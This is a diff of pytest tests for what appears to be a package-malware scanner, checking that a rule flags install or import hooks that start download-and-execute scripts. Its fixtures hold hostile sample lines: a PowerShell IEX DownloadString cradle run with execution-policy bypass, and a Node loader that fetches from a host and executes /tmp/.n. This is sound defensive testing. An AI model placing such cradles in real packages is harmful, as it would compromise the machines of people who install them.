@@ -169,3 +169,83 @@ def test_shebangs_that_name_a_shell_as_any_word() -> None:
     assert shell_script("bin/tool", b"#!sh\n")
     assert not shell_script("bin/tool", b"#!/usr/bin/env python3 -m shutil\n")
     assert not shell_script("bin/tool", b"#!/usr/bin/python3 -X dev\nsh\n")
+
+
+# -- blind13: scripts of the package that its own code starts ---------------------------------
+
+_STARTS_SCRIPT = (
+    "import os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\n"
+    "subprocess.call(['bash', os.path.join(here, 'scripts', 'postinstall.sh')])\n"
+)
+_JS_LOADER = (
+    "const { execSync } = require('child_process');\nconst https = require('https');\n"
+    "https.get('https://static.example/n', (r) => {\n  execSync('/tmp/.n');\n});\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("files", "script"),
+    [
+        (
+            {"setup.py": _STARTS_SCRIPT + _setup("[]"), "scripts/postinstall.sh": _CRADLE},
+            "scripts/postinstall.sh",
+        ),
+        (
+            {
+                "setup.py": _setup("[]"),
+                "pkg/__init__.py": "import subprocess, os\n"
+                "here = os.path.dirname(__file__)\n"
+                "subprocess.Popen(['node', os.path.join(here, 'loader.js')])\n",
+                "pkg/loader.js": _JS_LOADER,
+            },
+            "pkg/loader.js",
+        ),
+        (
+            {
+                "setup.py": _setup("[]"),
+                "pkg/__init__.py": "import os\nos.system('powershell -ep bypass -f setup.ps1')\n",
+                "pkg/setup.ps1": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\n",
+            },
+            "pkg/setup.ps1",
+        ),
+    ],
+    ids=["setup-runs-sh", "init-runs-node", "init-runs-ps1"],
+)
+@pytest.mark.parametrize("form", ["tree", "sdist"])
+def test_a_script_the_package_starts_that_downloads_and_runs_is_danger(
+    tmp_path: Path, files: dict[str, str], script: str, form: str
+) -> None:
+    assert ("CPL-THR-015", script) in package_danger(_target(tmp_path, files, form))
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        # started, but downloads nothing; a JS bundle that runs programs but fetches nothing
+        {"setup.py": _STARTS_SCRIPT + _setup("[]"), "scripts/postinstall.sh": "#!/bin/sh\nmake\n"},
+        {
+            "setup.py": _setup("[]"),
+            "pkg/__init__.py": "import subprocess\nsubprocess.run(['node', 'build.js'])\n",
+            "pkg/build.js": "const { execSync } = require('child_process');\nexecSync('tsc');\n",
+        },
+        # a cradle named by code that starts nothing (a data list), and one named nowhere
+        {
+            "setup.py": _setup("[]") + "FILES = ['scripts/install_rust.sh']\n",
+            "scripts/install_rust.sh": _CRADLE,
+            "ci/bootstrap.ps1": "IEX (iwr http://198.51.100.7/a)\n",
+        },
+        # a CI script of the sdist, outside any package, building images with install.sh
+        # (numpy's vendored meson: ci/ciimage/build.py and each image's install.sh)
+        {
+            "setup.py": _setup("[]"),
+            "ci/ciimage/build.py": "import subprocess\nsubprocess.run(['bash', 'install.sh'])\n",
+            "ci/ciimage/ubuntu/install.sh": _CRADLE,
+        },
+    ],
+    ids=["started-clean", "js-no-fetch", "named-not-started", "ci-script"],
+)
+@pytest.mark.parametrize("form", ["tree", "sdist"])
+def test_scripts_the_code_does_not_start_or_that_fetch_nothing_stay_clean(
+    tmp_path: Path, files: dict[str, str], form: str
+) -> None:
+    assert not {r for r, _ in package_danger(_target(tmp_path, files, form))} & {"CPL-THR-015"}
